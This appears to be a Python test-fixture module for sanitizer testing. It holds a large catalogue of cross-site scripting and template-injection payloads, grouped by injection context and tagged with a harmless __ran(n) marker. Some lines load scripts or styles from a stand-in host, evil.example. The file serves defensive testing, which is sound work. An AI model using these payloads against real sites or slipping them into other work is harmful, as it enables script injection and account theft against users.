"""Attempts to run a script wherever somebody's text is put without care; each says which one it is when it runs.

By the place in which they would work: text, an attribute, an address, a script, a style, text that is read twice.
"""

_TEXT = r"""
<script>RUN</script>
<ScRiPt >RUN</sCrIpT >
<script/id=x>RUN</script/x>
<script src="data:text/javascript,RUN"></script>
<script type=module>RUN</script>
<scr<script>ipt>RUN</scr</script>ipt>
<<script>RUN//<</script>
<script>RUN
<img src=/none-0 onerror=RUN>
<img/src=/none-0/onerror=RUN/x>
<IMG "'"'"><script>RUN</script>">
<img src="/none-0" onerror = "&#32;RUN">
<image src=/none-0 onerror=RUN>
<img srcset="/none-0 1x" onerror=RUN>
<picture><source srcset=/none-0><img onerror=RUN src=/none-0></picture>
<input type=image src=/none-0 onerror=RUN>
<svg onload=RUN>
<svg/onload=RUN//
<svg><script>RUN</script></svg>
<svg><script href="data:text/javascript,RUN"/></svg>
<svg><script>&#x5f;_ran(1)</script></svg>
<svg><animate attributeName=x dur=1ms onbegin=RUN></svg>
<svg><set attributeName=href onbegin=RUN to=1></svg>
<svg><image href=/none-0 onerror=RUN></svg>
<svg><a xlink:href="javascript:RUN"><text y=9>go</text></a></svg>
<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='RUN'/></svg>#x">
<svg><style><img src=/none-0 onerror=RUN></style></svg>
<svg></p><style><g title="</style><img src=/none-0 onerror=RUN>">
<svg><desc><script>RUN</script></desc></svg>
<svg><foreignObject><img src=/none-0 onerror=RUN></foreignObject></svg>
<math><mtext><script>RUN</script></mtext></math>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=/none-0 onerror=RUN&gt;">
<math><annotation-xml encoding="text/html"><img src=/none-0 onerror=RUN></annotation-xml></math>
<math href="javascript:RUN">go</math>
<math><maction actiontype="statusline" xlink:href="javascript:RUN">go</maction></math>
<form><math><mtext></form><form><mglyph><style></math><img src=/none-0 onerror=RUN>
<iframe src="javascript:parent.RUN"></iframe>
<iframe srcdoc="<script>parent.RUN</script>"></iframe>
<iframe srcdoc="&lt;img src&equals;1 onerror&equals;parent.RUN&gt;"></iframe>
<iframe onload=RUN></iframe>
<frameset onload=RUN>
<object data="javascript:RUN"></object>
<object data="data:text/html,<script>parent.RUN</script>"></object>
<embed src="data:text/html,<script>parent.RUN</script>">
<applet code=x onerror=RUN></applet>
<body onload=RUN>
<body onpageshow=RUN>
<html onmousemove=RUN>
<video><source onerror=RUN src=/none-0></video>
<video src=/none-0 onerror=RUN></video>
<audio src=/none-0 onerror=RUN></audio>
<video poster=/none-0 onloadstart=RUN src=/none-0></video>
<details open ontoggle=RUN><summary>x</summary></details>
<dialog open onclose=RUN><form method=dialog><button>x</button></form></dialog>
<div popover id=pop onbeforetoggle=RUN></div><button popovertarget=pop>x</button>
<marquee onstart=RUN>x</marquee>
<input autofocus onfocus=RUN>
<select autofocus onfocus=RUN><option>x</select>
<textarea autofocus onfocus=RUN>x</textarea>
<keygen autofocus onfocus=RUN>
<a href=#x autofocus onfocus=RUN>x</a>
<p tabindex=0 onfocus=RUN autofocus contenteditable>x</p>
<p style="animation-name:x" onanimationstart=RUN>x</p>
<style>@keyframes x{}</style><p style="animation:x 1ms" onanimationend=RUN>x</p>
<p onpointerenter=RUN>x</p>
<p oncontentvisibilityautostatechange=RUN style="content-visibility:auto">x</p>
<template shadowrootmode=open><img src=/none-0 onerror=RUN></template>
<xmp><p title="</xmp><img src=/none-0 onerror=RUN>"></xmp>
<noscript><p title="</noscript><img src=/none-0 onerror=RUN>"></noscript>
<noembed><img title="</noembed><img src=/none-0 onerror=RUN>"></noembed>
<listing>&lt;img src=/none-0 onerror=RUN&gt;</listing>
<table><td><form><td><script>RUN</script>
<select><template><script>RUN</script></template></select><img src=/none-0 onerror=RUN>
<meta http-equiv=refresh content="0;url=javascript:RUN">
<meta http-equiv="Refresh" content="0; url=data:text/html,<script>RUN</script>">
<base href="javascript:RUN//"><a href="1">x</a>
<base href="//evil.example/">
<link rel=stylesheet href="/none-0.css" onerror=RUN>
<link rel=preload as=script href="//evil.example/x.js" onload=RUN>
<form action="javascript:RUN"><button>go</button></form>
<form id=f0></form><button form=f0 formaction="javascript:RUN">go</button>
<isindex type=image src=/none-0 onerror=RUN>
<!--><script>RUN</script>-->
<!-- --!><img src=/none-0 onerror=RUN> -->
<!--[if gte IE 4]><script>RUN</script><![endif]-->
<![CDATA[<script>RUN</script>]]>
<?xml version="1.0"?><script>RUN</script>
<? ><script>RUN</script>
<!DOCTYPE x [<!ENTITY y "<script>RUN</script>">]>&y;
<b <script>RUN</script>
</textarea><script>RUN</script>
</title><script>RUN</script>
</style><script>RUN</script>
</noscript></template></select><script>RUN</script>
--><script>RUN</script><!--
"""

_ATTRIBUTE = r"""
"><script>RUN</script>
'><script>RUN</script>
><script>RUN</script>
" autofocus onfocus=RUN x="
' autofocus onfocus=RUN x='
` autofocus onfocus=RUN x=`
x autofocus onfocus=RUN
" onmouseover="RUN" style="position:fixed;inset:0
" onanimationstart="RUN" style="animation:x
"/><svg/onload=RUN>
\"><img src=/none-0 onerror=RUN>
" srcdoc="<script>parent.RUN</script>
" formaction="javascript:RUN" type="submit
" data-confirm="<img src=/none-0 onerror=RUN>
&quot;&gt;&lt;script&gt;RUN&lt;/script&gt;
&#34; onfocus=RUN autofocus &#34;
%22%3E%3Cscript%3ERUN%3C/script%3E
"""

_ADDRESS = r"""
javascript:RUN
JaVaScRiPt:RUN
 javascript:RUN
javascript://host/%0aRUN
java&#10;script&colon;RUN
&#x6A;avascript&#0000058RUN
javascript&colon;RUN
data:text/html,<script>RUN</script>
data:text/html;base64,PHNjcmlwdD5hbGVydCgwKTwvc2NyaXB0Pg==
vbscript:RUN
view-source:javascript:RUN
//evil.example/RUN
[x](javascript:RUN)
[x](JAVASCRIPT&#58;RUN)
[x](<java&Tab;script:RUN>)
[x](data:text/html,<script>RUN</script>)
[x](https://a.example "' autofocus onfocus=RUN '")
[x](https://a.example "&quot; autofocus onfocus=RUN tabindex=0 &quot;")
![x](javascript:RUN)
![" onerror="RUN](https://a.example/none.png)
<javascript:RUN>
<https://a.example/"onfocus=RUN/autofocus/>
https://a.example/"autofocus/onfocus=RUN/
"""

_SCRIPT = r"""
</script><script>RUN</script>
</SCRIPT ><svg onload=RUN>
";RUN;//
';RUN;//
`;RUN;//
${RUN}
\";RUN;//
\u0022;RUN;//
\u003cscript\u003eRUN\u003c/script\u003e
"}</script><script>RUN</script>
<!--<script>"}</script><img src=/none-0 onerror=RUN>
]]></script><script>RUN</script>
*/RUN/*
{{1000003*7}}
{%print(1000003*7)%}
${1000003*7}
<%= 1000003*7 %>
#{1000003*7}
{{constructor.constructor('RUN')()}}
%(RUN)s{0.__class__}{RUN}
"""

_TWICE = r"""
&lt;script&gt;RUN&lt;/script&gt;
&amp;lt;img src=/none-0 onerror=RUN&amp;gt;
&#60;img src=/none-0 onerror=RUN&#62;
\x3cimg src=/none-0 onerror=RUN\x3e
＜script＞RUN＜/script＞
"""

_STYLE = r"""
<p style="background:url(javascript:RUN)">x</p>
<p style="width:expression(RUN)">x</p>
<style>@import "javascript:RUN";</style>
<style>*{background:url(//evil.example/RUN)}</style>
</style><img src=/none-0 onerror=RUN>
```"autofocus/onfocus=RUN
"""

_UNSEEN = [
    "<script\x00>RUN</script>",
    "<scri\x00pt>RUN</scri\x00pt>",
    "<img src=/none-0 onerror\n=\nRUN>",
    "<img src=/none-0\x0conerror=RUN>",
    "<a href='java\tscript:RUN'>x</a>",
    "<a href='\x01javascript:RUN'>x</a>",
    "<a href='java\nscript:RUN'>x</a>",
    "java\tscript:RUN",
    "\x01javascript:RUN",
    "\u2028;RUN;\u2029",
    "<\u0131mg src=/none-0 onerror=RUN>",
    "\ufeff<script>RUN</script>",
    "\u202e<script>RUN</script>",
    "<img src=/none-0 onerror=\u2003RUN>",
]
SPLIT = (_TEXT, _ATTRIBUTE, _ADDRESS, _SCRIPT, _TWICE, _STYLE)
_ALL = [line for part in SPLIT for line in part.splitlines() if line.strip()] + _UNSEEN
PAYLOADS = [line.replace("RUN", f"__ran({number})").replace("none-0", f"none-{number}") for number, line in enumerate(_ALL)]  # fmt: skip
ADDRESSES = [one for one in PAYLOADS if one.strip("\x00\x01 ").replace("\t", "").lower().startswith(("javascript", "data:", "vbs", "//"))]  # fmt: skip
EVERYWHERE = """\"'></title></textarea></script><img src=/none onerror=__ran("E")>"""
"""Breaks out of any place; short, so that a beginning that is cut off holds it whole."""
COUNTED_OUT = "7000021"
"""What a template or an expression language would make of those that calculate."""
